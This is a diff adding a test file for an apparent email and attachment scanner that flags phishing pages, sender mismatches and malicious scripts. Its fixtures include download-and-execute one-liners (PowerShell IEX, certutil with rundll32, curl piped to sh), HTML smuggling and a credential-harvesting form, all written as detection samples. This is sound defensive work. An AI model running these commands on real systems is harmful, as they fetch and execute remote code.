@@ -1,0 +1,165 @@
+import { describe, expect, it } from 'vitest';
+import { hasKeyOf, inspectSample, modelsAsked, sha256, signsOf, toBytes } from './testing/inspect-sample.ts';
+import { buildMail, buildShortcut, PROGRAM, WORDS } from './testing/samples.ts';
+
+describe('pages', () => {
+  it('have what they show judged, not what they hide', async () => {
+    const shown = await inspectSample(`<html><body><p>${WORDS}</p></body>`, 'a.html');
+    expect(modelsAsked(shown)).toEqual(['text_model']);
+    const hidden = await inspectSample(`<html><style>${WORDS}</style><script>${WORDS}</script>`, 'a.html');
+    expect(modelsAsked(hidden)).toEqual([]);
+  });
+
+  it.each([
+    ['a link', '<a href="https://login.example.com/x">here</a>'],
+    ['a form', '<form action="https://login.example.com/x"></form>'],
+    ['a redirection', '<meta http-equiv="refresh" content="0; url=https://login.example.com/x">'],
+    ['a frame', '<iframe src="//login.example.com/x"></iframe>'],
+    ['an entity', '<a href="https&#58;//login.example.com/x">here</a>'],
+  ])('have %s looked up', async (_, html) => {
+    expect(hasKeyOf(await inspectSample(`<html>${html}`, 'a.html'), 'domain', 'login.example.com')).toBe(
+      true,
+    );
+  });
+
+  it('that ask for a password and send it elsewhere are warned of', async () => {
+    const elsewhere = '<html><form action="https://a.example/p.php"><input type="password"></form>';
+    expect((await inspectSample(elsewhere, 'a.html')).findings).toContainEqual(
+      expect.objectContaining({ threatType: 'credential_phishing', asksFor: 'warn' }),
+    );
+    const unsaid = await inspectSample('<html><form><input type="password"></form>', 'a.html');
+    expect(signsOf(unsaid)).toEqual(['a page sent as a file that asks for a password']);
+  });
+
+  it.each([
+    ['https://bank.example.com', 'https://other.example.org/x', true],
+    ['bank.com', 'https://www.bank.com/login', false],
+    ['Click here', 'https://other.example.org/x', false],
+    ['bank.com', '/login', false],
+  ])('that show %s and lead to %s', async (shown, href, isOther) => {
+    const inspection = await inspectSample(`<html><a href="${href}"><b>${shown}</b></a>`, 'a.html');
+    expect(signsOf(inspection).includes('a link that shows one domain and leads to another')).toBe(isOther);
+  });
+
+  it('that put a file together by script are named, and those with scripts alone are not', async () => {
+    const file = 'TVqQ'.repeat(600);
+    const smuggling = `<html><script>var b=atob("${file}");var u=URL.createObjectURL(new Blob([b]))</script>`;
+    expect(signsOf(await inspectSample(smuggling, 'a.html'))).toEqual([
+      'a page that puts a file together by script and hands it over as a download',
+    ]);
+    const picture = `<html><script>var i="${file}"</script>`;
+    expect(signsOf(await inspectSample(picture, 'a.html'))).toEqual([]);
+  });
+
+  it('that are nested without end are read to a point, and it is said', async () => {
+    const inspection = await inspectSample(`<html>${'<b>'.repeat(100_000)}`, 'a.html');
+    expect(inspection.unsupported).toContain('too deeply nested');
+  });
+});
+
+describe('mails', () => {
+  it('have their words, links and attachments judged', async () => {
+    const mail = buildMail(
+      ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b'],
+      [
+        '--b',
+        'Content-Type: text/html',
+        '',
+        `<p>${WORDS} <a href="https://login.example.com/x">here</a></p>`,
+        '--b',
+        'Content-Disposition: attachment; filename="scan.jpg"',
+        'Content-Transfer-Encoding: base64',
+        '',
+        Buffer.from(PROGRAM).toString('base64'),
+        '--b--',
+        '',
+      ].join('\r\n'),
+    );
+    const inspection = await inspectSample(mail, 'a.eml');
+    expect(modelsAsked(inspection).sort()).toEqual(['text_model', 'url_model']);
+    expect(hasKeyOf(inspection, 'domain', 'login.example.com')).toBe(true);
+    expect(hasKeyOf(inspection, 'sha256', sha256(PROGRAM))).toBe(true);
+    expect(signsOf(inspection)).toContain('a program whose name ends like that of a document or a picture');
+  });
+
+  it('say where senders disagree', async () => {
+    const other = await inspectSample(
+      buildMail(['Reply-To: x@other.example.org', 'Return-Path: <y@third.example.net>'], WORDS),
+      'a.eml',
+    );
+    expect(other.reasons).toEqual(
+      expect.arrayContaining([
+        'answers to it go to another domain than the one it names as its sender',
+        'it was sent from another domain than the one it names as its sender',
+      ]),
+    );
+    const same = await inspectSample(buildMail(['Reply-To: x@mail.bank.example'], WORDS), 'a.eml');
+    expect(same.reasons.filter((reason) => reason.includes('domain'))).toEqual([]);
+  });
+
+  it('within mails are opened, as deep as files are', async () => {
+    const wrap = (mail: string) => buildMail(['Content-Type: message/rfc822'], mail);
+    const inner = buildMail([], WORDS);
+    expect(modelsAsked(await inspectSample(wrap(inner), 'a.eml'))).toEqual(['text_model']);
+    const deep = await inspectSample(wrap(wrap(wrap(wrap(wrap(inner))))), 'a.eml');
+    expect(deep.unsupported).toBe('files lie deeper in it than is looked here');
+  });
+
+  it.each([
+    [
+      'a hundred levels of parts',
+      `Content-Type: multipart/mixed; boundary=b0\r\n\r\n${Array.from({ length: 100 }, (_, at) => `--b${at}\r\nContent-Type: multipart/mixed; boundary=b${at + 1}\r\n\r\n`).join('')}`,
+    ],
+    ['a million lines', `\r\n${'\n'.repeat(1_000_000)}`],
+    [
+      'ten thousand parts',
+      `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\n'.repeat(10_000)}`,
+    ],
+  ])('of %s are said to be unread, at once', async (_, rest) => {
+    const startedAtMs = performance.now();
+    const inspection = await inspectSample(
+      `From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n${rest}`,
+      'a.eml',
+    );
+    expect(performance.now() - startedAtMs).toBeLessThan(1000);
+    expect(inspection.unsupported).toBeDefined();
+  });
+});
+
+describe('scripts and shortcuts', () => {
+  it.each([
+    ['a.ps1', 'powershell IEX (New-Object Net.WebClient).DownloadString("https://a.example.com/x")'],
+    ['a.bat', 'certutil -urlcache -f https://a.example.com/x x.exe & rundll32 x.exe'],
+    ['a.vbs', 'Set s=CreateObject("WScript.Shell"): Set h=CreateObject("MSXML2.XMLHTTP")'],
+    ['a.ps1', `powershell -enc ${'QUFB'.repeat(20)}`],
+    ['a.sh', '#!/bin/sh\ncurl https://a.example.com/x | sh'],
+  ])('that fetch and run are warned of: %s', async (name, script) => {
+    expect(signsOf(await inspectSample(script, name))).toEqual([
+      'a script that fetches something and runs it, or hides what it does',
+    ]);
+  });
+
+  it('that do neither are named and left unsupported', async () => {
+    const inspection = await inspectSample('WScript.Echo "hello"', 'a.vbs');
+    expect(signsOf(inspection)).toEqual(['a script that runs when opened']);
+    expect(inspection.unsupported).toBeDefined();
+  });
+
+  it('that are shortcuts are blocked for the command they run', async () => {
+    const command = 'C:\\Windows\\System32\\cmd.exe /c start https://a.example.com/x';
+    const inspection = await inspectSample(buildShortcut(command), 'a.lnk');
+    expect(inspection.findings).toContainEqual(
+      expect.objectContaining({ threatType: 'malware', asksFor: 'block' }),
+    );
+    expect(hasKeyOf(inspection, 'domain', 'a.example.com')).toBe(true);
+    expect(signsOf(await inspectSample(buildShortcut('C:\\notes'), 'a.lnk'))).toEqual([
+      'a shortcut sent as a file',
+    ]);
+  });
+
+  it('under a name that runs are scripts, and the same text under another is a text', async () => {
+    const text = toBytes(WORDS);
+    expect(modelsAsked(await inspectSample(text, 'a.js'))).toEqual([]);
+    expect(modelsAsked(await inspectSample(text, 'a.txt'))).toEqual(['text_model']);
+  });
+});
